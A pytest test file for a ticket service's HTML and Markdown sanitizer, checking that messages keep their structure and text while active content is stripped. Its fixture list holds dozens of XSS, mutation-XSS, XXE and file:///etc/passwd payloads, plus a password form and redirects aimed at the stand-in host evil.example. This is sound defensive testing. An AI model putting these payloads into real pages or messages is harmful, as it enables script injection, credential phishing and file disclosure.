"""Formatted messages lose whatever loads, runs or hides, and keep their words."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.tickets.rich_text import (
    LONGEST,
    as_text,
    cleaned,
    from_markdown,
    is_safe_link,
    parted,
)

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/t.gif'>",
    "<img src='file:///etc/passwd'>",
    "<img src='//server/share/x.png'>",
    "<img src='\\\\server\\share\\x.png'>",
    "<img src='data:image/png;base64,AAAA'>",
    "<img src='cid:a\" onload=\"x'>",
    "<img srcset='http://evil.example/2x.png 2x' src='cid:ok'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(file:///etc/passwd)}</style>",
    "<p style=\"background:url('http://evil.example/')\">x</p>",
    "<body background=http://evil.example/bg.png>x",
    "<table background=file:///etc/passwd><tr><td background=x>y</table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='\\\\server\\share'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='smb://server/share'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=http://evil.example/x></xmp>",
    "<plaintext><img src=http://evil.example/x>",
    "<![CDATA[<img src=http://evil.example/x>]]>",
    "<!--><img src=http://evil.example/x>-->",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<img src=http://evil.example/x>'></iframe>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<form action='http://evil.example'><input name=p type=password><button>Go</button></form>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<video poster=http://evil.example/p.png><source src=http://evil.example/v.mp4></video>",
    "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<div><template><img src=http://evil.example/x></template></div>",
    "<img src=`http://evil.example/x`>",
    "<img/src=http://evil.example/x>",
    "<<img src=http://evil.example/x>>",
    "<p>\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<isindex action=javascript:alert(1)>",
    "<a href='http://evil.example' target=_blank ping='http://evil.example/ping'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<portal src='http://evil.example'></portal>",
)
LOADS = re.compile(
    r"<(?!/?(?:a|b|blockquote|br|caption|code|col|colgroup|dd|del|div|dl|dt|em|h[1-6]|hr|i|img|ins|li"
    r"|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)\b[^<]*>)"
    r"|\s(?:on\w+|style|srcset|background|poster|action|data|ping|target|class|id)\s*="
    r"|src=\"(?!cid:)|href=\"(?!https?://|mailto:)"
)


def harmless(markup: str) -> bool:
    """Look at tags only: the words of a message may say anything."""
    return not any(LOADS.search(tag) for tag in re.findall(r"<[^>]*>", markup))


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_loads_or_runs_is_left(markup: str) -> None:
    once = cleaned(markup)

    assert harmless(once), once
    assert cleaned(once) == once


def test_the_check_itself_sees_what_is_left() -> None:
    assert not harmless('<img src="http://evil.example/x">')
    assert not harmless('<p style="x">')
    assert not harmless("<script>")


@given(st.text(alphabet="<>/=\"'&;:! abcdeghilmnoprstuvwxy#\0\n-", max_size=80))
def test_any_text_at_all_becomes_harmless(markup: str) -> None:
    once = cleaned(markup)

    assert harmless(once)
    assert cleaned(once) == once


@given(st.text(max_size=200))
def test_markdown_never_becomes_more_than_structure(text: str) -> None:
    assert harmless(from_markdown(text))


def test_structure_is_kept() -> None:
    kept = '<p>Dear <b>team</b>,</p><ul><li>one</li><li>two</li></ul><p>see <a href="https://wiki.example/x">this</a></p>'

    assert cleaned(kept) == kept


def test_pictures_that_came_with_the_message_are_kept_and_no_others() -> None:
    said = cleaned(
        '<img src="cid:logo@01" alt="Our logo"><img src="https://x.example/y.png" alt="z">'
    )

    assert said == '<img src="cid:logo@01" alt="Our logo">[z]'


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("`rm -rf`", "<p><code>rm -rf</code></p>"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("<b>not</b>", "<p>&lt;b&gt;not&lt;/b&gt;</p>"),
        ("[here](javascript:alert(1))", "<p>[here](javascript:alert(1))</p>"),
        ("![x](file:///etc/passwd)", None),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
    ],
)
def test_markdown_is_the_few_things_people_type(typed: str, shown: str | None) -> None:
    if shown is None:
        assert "<img" not in from_markdown(typed)
        assert "passwd" in as_text(from_markdown(typed)) or "file:" not in from_markdown(typed)
    else:
        assert from_markdown(typed).strip() == shown


def test_words_survive_as_text() -> None:
    markup = cleaned(
        "<p>One&nbsp;&amp; two</p><div>three<br>four</div>"
        "<table><tr><td>a</td><td>b</td></tr></table>"
    )

    assert as_text(markup) == "One & two\nthree\nfour\na\tb"


def test_a_quotation_at_the_end_is_parted_from_what_was_written() -> None:
    written, quoted = parted(
        cleaned("<div><p>Thanks!</p><blockquote><p>We replaced it.</p></blockquote></div>")
    )

    assert (as_text(written), as_text(quoted)) == ("Thanks!", "We replaced it.")
    assert parted("<blockquote><p>all quoted</p></blockquote>")[1] == ""
    assert parted("<p>a</p><blockquote>b</blockquote><p>c</p>")[1] == ""


def test_a_huge_message_is_cut_and_says_so() -> None:
    said = cleaned("<p>" + "word " * (LONGEST // 4) + "</p>")

    assert "too long" in as_text(said)
    assert len(said) < LONGEST + 1000


@pytest.mark.parametrize(
    ("address", "is_safe"),
    [
        ("https://wiki.example/a?b=c#d", True),
        ("mailto:desk@example.invalid", True),
        ("file:///etc/passwd", False),
        ("javascript:alert(1)", False),
        ("https://a b", False),
        ("\\\\server\\share", False),
        ("HTTPS://WIKI.EXAMPLE", False),
        ("", False),
    ],
)
def test_links_lead_to_pages_and_mail_only(address: str, is_safe: bool) -> None:  # noqa: FBT001
    assert is_safe_link(address) is is_safe
